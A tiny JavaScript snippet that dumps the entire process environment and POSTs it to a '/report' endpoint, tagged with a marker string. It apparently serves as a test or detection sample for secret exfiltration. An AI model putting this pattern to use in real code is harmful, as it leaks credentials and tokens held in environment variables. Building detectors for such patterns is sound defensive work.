const env = process.env;

fetch('/report', { method: 'POST', body: JSON.stringify([env, 'MARK_whole_entry']) });
